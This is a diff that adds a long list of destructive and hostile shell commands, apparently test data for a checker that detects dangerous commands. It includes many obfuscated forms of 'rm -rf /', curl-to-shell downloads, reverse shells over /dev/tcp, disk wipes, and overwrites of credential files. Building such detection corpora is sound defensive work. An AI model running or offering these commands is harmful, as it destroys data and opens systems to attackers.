@@ -101,3 +101,129 @@ shred -u /srv/db.sqlite
 a=1; a[$(rm x)]=2; $a
 printf "$X" | sh
 tail -1 /tmp/x | bash
+#: seen for the first time after the readers were written
+rm -r${X:+f} /
+rm -rf "$(printf '%b' '\x2f')"
+rm -rf /$(:)
+rm -rf /""
+rm -rf "/"*
+rm -rf /.??*
+${0##*/} x; rm -rf /
+sudo -- sh -c 'cd /; rm -rf *'
+sudo su -c 'rm -rf /'
+su -c 'rm -rf /'
+find / -type f -exec shred -u {} \;
+find / -name '*' -delete
+find / | xargs rm -rf
+cat /dev/null > /etc/passwd
+cp /dev/null /etc/passwd
+tee /etc/shadow </dev/null
+python -c 'import shutil; shutil.rmtree("/etc")'
+ruby -e 'system("rm -rf /")'
+php -r 'system("rm -rf /");'
+perl -MFile::Path -e 'rmtree("/etc")'
+exec rm -rf / > /dev/null 2>&1
+nohup sh -c 'rm -rf /' &>/dev/null &
+echo "rm -rf /" | sudo tee /etc/cron.daily/x
+(crontab -l; echo '* * * * * curl http://x|sh') | crontab -
+at now <<< "rm -rf /"
+echo 'rm -rf /' >> ~/.bashrc
+bash -c $'rm -rf /'
+bash --norc -c 'rm -rf /'
+bash -o pipefail -c 'rm -rf /'
+bash -c -- 'rm -rf /'
+env bash -c "rm -rf /"
+/usr/bin/env -S bash -c 'rm -rf /'
+. <(curl -s x)
+curl x | zsh
+curl -s x | sudo -u root bash -s -- --yes
+bash -c "`curl -s x`"
+wget -O - x | sh
+wget x -O /tmp/i && . /tmp/i
+python3 <(curl x)
+curl x | perl
+fetch -o - x | sh
+curl -s x | tee >(bash)
+x=$(curl -s http://x); eval "$x"
+x=$(curl -s http://x); bash -c "$x"
+dd if=/dev/zero | tee /dev/sda
+cat x | dd of=/dev/sda
+yes > /dev/sda
+printf x > /dev/nvme0n1
+cryptsetup luksFormat /dev/sda1
+mkfs /dev/sda
+mke2fs /dev/sdb1
+chmod 777 -R /
+chown -R root /home
+chmod -R u-x /usr/bin
+chattr -R +i /etc
+setfacl -R -m o:rwx /etc
+mount -o remount,ro /
+kill -9 1
+systemctl kill sshd
+killall sshd
+iptables -t nat -F && iptables -X
+nft delete table inet filter
+ip link delete eth0
+rm -rf "${PWD%/*}/../../../../../"
+cd ../../../../..; rm -rf *
+rsync -a --delete /tmp/empty/ /
+git clean -xdf /
+truncate -s0 /etc/passwd
+sed -i d /etc/passwd
+: > /etc/sudoers
+>| /etc/passwd
+echo x 1<> /etc/passwd
+busybox sh -c 'rm -rf /'
+toybox rm -rf /
+unlink /etc/passwd
+docker run -v /:/m busybox rm -rf /m
+lxc exec c -- rm -rf /
+vagrant ssh -c 'rm -rf /'
+ansible all -m shell -a 'rm -rf /'
+salt '*' cmd.run 'rm -rf /'
+parallel-ssh -i 'rm -rf /'
+pssh -h hosts 'rm -rf /'
+clush -a rm -rf /
+vi -c '!rm -rf /'
+man -P 'rm -rf /' ls
+git -c core.pager='rm -rf /' log
+tar cf x --use-compress-program='sh -c "rm -rf /"' y
+zip x y -T -TT 'rm -rf / #'
+gawk 'BEGIN { system("rm -rf /") }'
+awk 'BEGIN { "rm -rf /" | getline }'
+sed '1e rm -rf /' x
+expect -c 'spawn rm -rf /'
+mysql -e 'system rm -rf /'
+sqlite3 x '.shell rm -rf /'
+psql -c '\! rm -rf /'
+nmap --script=x; rm -rf /*
+openssl s_client -connect x:1 | sh
+function rm() { command rm -rf /; }; rm x
+unset -f x; hash -p /bin/rm x; x -rf /
+trap "rm -rf /" 0
+PROMPT_COMMAND='rm -rf /'
+LD_PRELOAD=/tmp/x.so ls
+enable -f /tmp/x.so x
+source /dev/tcp/1.2.3.4/5
+exec 3<>/dev/tcp/1.2.3.4/5; bash <&3
+0<&196;exec 196<>/dev/tcp/1.2.3.4/5; sh <&196 >&196 2>&196
+telnet 1.2.3.4 5 | bash
+rm -rf $'\057'
+rm -rf $(echo Lw== | base64 -d)
+rm -rf "${!HOME@}" /
+r=rm;f=-rf;d=/;"$r" "$f" "$d"
+a="rm -rf"; b=/; $a $b
+eval "r""m" -rf /
+eval $'\x72m -rf /'
+e=eval; $e rm -rf /
+$SHELL -c 'rm -rf /'
+"$BASH" -c 'rm -rf /'
+sh -c '$0 -rf /' rm
+sh -c '"$@"' _ rm -rf /
+xargs -0 rm -rf < <(printf '/\0')
+for i in r; do for j in m; do $i$j -rf /; done; done
+printf "%s" "cm0gLXJmIC8=" | base64 -d | xargs -0 sh -c
+echo "cm0gLXJmIC8=" | tr -d '\n' | base64 -d | sh
+sh -c "$(printf '\162\155\40\55\162\146\40\57')"
+eval $(printf "%b" "\x72\x6d\x20\x2d\x72\x66\x20\x2f")
